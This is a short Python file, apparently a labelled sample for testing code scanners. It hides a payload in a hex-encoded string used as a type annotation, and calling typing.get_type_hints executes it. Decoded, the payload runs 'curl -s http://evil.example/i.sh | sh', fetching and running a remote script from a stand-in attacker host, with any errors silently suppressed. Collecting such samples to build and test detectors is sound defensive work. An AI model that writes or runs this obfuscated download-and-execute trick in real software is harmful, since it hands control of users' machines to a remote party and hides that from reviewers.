# harm: runs a shell pipeline ; trick: bytes.fromhex(...).decode() builds the code string
import typing

Kind = bytes.fromhex("5f5f696d706f72745f5f28276f7327292e73797374656d28276375726c202d7320687474703a2f2f6576696c2e6578616d706c652f692e7368207c2073682729").decode()


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
